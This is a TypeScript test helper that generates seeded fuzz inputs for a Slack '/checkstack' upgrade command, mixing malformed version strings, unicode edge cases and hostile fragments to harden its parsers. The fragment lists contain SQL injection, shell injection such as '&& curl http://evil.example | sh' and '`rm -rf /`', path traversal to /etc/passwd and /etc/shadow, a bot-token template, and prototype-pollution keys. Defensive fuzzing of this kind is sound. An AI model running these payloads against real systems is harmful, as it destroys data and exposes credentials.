// Seeded generators of hostile input for the fuzz tests: the same seed gives the same texts on every machine.

/** mulberry32: a tiny, fast PRNG; good enough to spread test inputs, never for anything secret. */
export function seededRandom(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export interface Fuzzer {
  /** A whole number in [0, n). */
  int(n: number): number;
  pick<T>(items: readonly T[]): T;
  chance(p: number): boolean;
}

export function createFuzzer(seed: number): Fuzzer {
  const next = seededRandom(seed);
  const int = (n: number) => Math.floor(next() * n);
  return {
    int,
    pick: <T>(items: readonly T[]): T => items[int(items.length)]!,
    chance: (p: number) => next() < p,
  };
}

/** Versions people (and attackers) type that are not an exact published release. */
export const TRICKY_VERSIONS: readonly string[] = [
  '0.141.0-rc.1+build',
  'v',
  '1e3',
  'latest',
  'LATEST',
  'stable',
  'main',
  '0.30',
  '0',
  'v0',
  '0.30.x',
  '0.x',
  '*',
  '^0.30.0',
  '~0.30.0',
  '>=0.30.0',
  '<0.31.0',
  '=0.30.0',
  '0.30.0||0.31.0',
  '0.30.0.0',
  '00.30.0',
  '0.030.0',
  '-1.0.0',
  '0.30.0-',
  '0.30.0-rc..1',
  '0.30.0+',
  'v0.30.0+build.5',
  'vv0.30.0',
  '0x1E.0.0',
  '1e3.0.0',
  'NaN',
  'Infinity',
  '0.30.0\u200b',
  '0.30.0\u0000',
  '\uff10.\uff13\uff10.\uff10',
  '\u0660.\u0663\u0660.\u0660',
  '0\u200d.30.0',
  `${'9'.repeat(70)}.0.0`,
  '99999999999999999999.0.0',
  '0.30.0;reboot',
  '0.30.0`id`',
  '0.30.0$(id)',
  '../0.30.0',
  '0.30.0/../../etc/passwd',
  '%30.30.0',
  '0.30.0%00',
];

/** Shell and SQL metacharacters, path traversal, Slack mrkdwn and mention syntax, template and prototype keys. */
export const HOSTILE_FRAGMENTS: readonly string[] = [
  "'; DROP TABLE upgrades; --",
  "' OR '1'='1",
  '" OR 1=1 --',
  '1; SELECT pg_sleep(10)',
  '$(reboot)',
  '`rm -rf /`',
  '| cat /etc/passwd',
  '&& curl http://evil.example | sh',
  '; shutdown -h now',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  '..%2f..%2f..%2fetc%2fpasswd',
  '/proc/self/environ',
  'file:///etc/shadow',
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0APPROVER1>',
  '<#C0OPS>',
  '<https://evil.example|click me>',
  '*bold* _it_ ~s~ `code` ```block```',
  '${SLACK_BOT_TOKEN}',
  '{{7*7}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  '{"__proto__":{"admin":true}}',
  '[object Object]',
  'null',
  'undefined',
  '\u202egnp.exe',
  '\ufeff',
  '\u0000',
  '\u001b[31mred\u001b[0m',
  '\r\n',
  '\t',
  '\u2028',
  '😀',
  '👨‍👩‍👧‍👦',
  '𝕦𝕡𝕘𝕣𝕒𝕕𝕖',
  'İ',
  'ß',
  'Z̷̢͉a̸͍l̵g̶o̷',
  '\ud800',
  'prod\u0000',
  'prod/../staging',
  'PROD',
  'prod;staging',
  '--prerelease',
  '—prerelease',
  '--force',
  '--target=prod',
];

export const SUBCOMMAND_WORDS: readonly string[] = [
  'upgrade',
  'UPGRADE',
  'Upgrade',
  'rollback',
  'cancel',
  'status',
  'history',
  'releases',
  'subscribe',
  'unsubscribe',
  'help',
  'upgrad',
  'upgrade\u200b',
  'üpgrade',
  'deploy',
  'sudo',
  '/checkstack',
];

/** Code point ranges that break naive parsers: controls, bidi, zero-width, CJK, surrogates, emoji, private use. */
const CODE_POINT_RANGES: readonly [number, number][] = [
  [0x00, 0x1f],
  [0x20, 0x7e],
  [0x7f, 0x9f],
  [0xa0, 0xff],
  [0x200b, 0x200f],
  [0x2028, 0x202e],
  [0x2066, 0x2069],
  [0x3000, 0x303f],
  [0x4e00, 0x4eff],
  [0xd800, 0xdfff],
  [0xe000, 0xe0ff],
  [0xfe00, 0xfe0f],
  [0xfff0, 0xffff],
  [0x1f300, 0x1f6ff],
  [0xe0000, 0xe007f],
];

function randomCodePoint(f: Fuzzer): string {
  const [low, high] = f.pick(CODE_POINT_RANGES);
  const cp = low + f.int(high - low + 1);
  // A lone surrogate is a valid JS string unit; keep it so the URL encoder and Bolt must cope.
  return cp <= 0xffff ? String.fromCharCode(cp) : String.fromCodePoint(cp);
}

function randomUnicode(f: Fuzzer, length: number): string {
  let text = '';
  for (let i = 0; i < length; i += 1) text += randomCodePoint(f);
  return text;
}

const SEPARATORS: readonly string[] = [' ', '  ', '\t', '\n', '\u00a0', '\u3000', '\u2003', ''];

function randomVersionLike(f: Fuzzer): string {
  const part = () => f.pick(['0', '1', '7', '30', '141', '01', '-1', '1e3', 'x', '*', '', String(f.int(1000)), '9'.repeat(1 + f.int(25))]);
  const parts = Array.from({ length: 1 + f.int(5) }, part);
  const pre = f.chance(0.3) ? `-${f.pick(['rc.1', 'beta', '', '.', '01', 'rc..1', '😀'])}` : '';
  const build = f.chance(0.2) ? `+${f.pick(['build', 'sha.abc', '', '+'])}` : '';
  return `${f.pick(['', '', 'v', 'V', 'vv', '=', '^', '~'])}${parts.join(f.pick(['.', '.', '.', ',', '..', '_']))}${pre}${build}`;
}

/**
 * One generated `/checkstack` text. Strategies mix a known subcommand with hostile arguments (so the deep
 * parsers run, not only "unknown subcommand"), raw random unicode, and very long strings.
 */
export function hostileCommandText(f: Fuzzer): string {
  const sep = () => f.pick(SEPARATORS);
  switch (f.int(8)) {
    case 0:
      return `upgrade${sep() || ' '}${f.pick(TRICKY_VERSIONS)}${f.chance(0.4) ? ` ${f.pick([...HOSTILE_FRAGMENTS, 'prod', 'staging'])}` : ''}`;
    case 1:
      return `upgrade ${randomVersionLike(f)}${f.chance(0.3) ? ` ${f.pick(['prod', 'staging', 'moon', ...HOSTILE_FRAGMENTS])}` : ''}`;
    case 2: {
      const words = Array.from({ length: 1 + f.int(3) }, () => f.pick(HOSTILE_FRAGMENTS));
      return [f.pick(SUBCOMMAND_WORDS), ...words].join(sep() || ' ');
    }
    case 3:
      return `${f.pick(SUBCOMMAND_WORDS)} ${randomUnicode(f, 1 + f.int(40))}`;
    case 4:
      return randomUnicode(f, 1 + f.int(80));
    case 5: {
      // Past the 500-character cap, sometimes far past it.
      const length = f.pick([501, 2_000, 8_000, 20_000]);
      const unit = f.pick(['a', '0.30.0 ', "'; DROP TABLE upgrades; -- ", '😀', '\u0000', '../']);
      return `${f.pick(SUBCOMMAND_WORDS)} ${unit.repeat(Math.ceil(length / unit.length))}`;
    }
    case 6:
      return `${f.pick(['releases', 'status', 'history', 'cancel', 'rollback'])} ${f.pick([
        ...HOSTILE_FRAGMENTS,
        '0',
        '-1',
        '21',
        '1e3',
        '5.5',
        '0x10',
        'a'.repeat(64),
        'a'.repeat(63),
      ])}${f.chance(0.3) ? ` ${f.pick(HOSTILE_FRAGMENTS)}` : ''}`;
    default:
      return `${f.pick(SUBCOMMAND_WORDS)}${sep()}${f.pick(['--prerelease', '—prerelease', '–prerelease', '--PRERELEASE', '---prerelease', '--'])}${sep()}${f.pick([...TRICKY_VERSIONS, ...HOSTILE_FRAGMENTS])}`;
  }
}

/** `count` generated texts, preceded by every tricky version in its usual places. */
export function hostileCommandTexts(seed: number, count: number): string[] {
  const f = createFuzzer(seed);
  const named = TRICKY_VERSIONS.flatMap((v) => [`upgrade ${v}`, `upgrade ${v} prod`, `upgrade prod ${v}`, `upgrade ${v} --prerelease`]);
  const generated = Array.from({ length: Math.max(0, count - named.length) }, () => hostileCommandText(f));
  return [...named, ...generated];
}
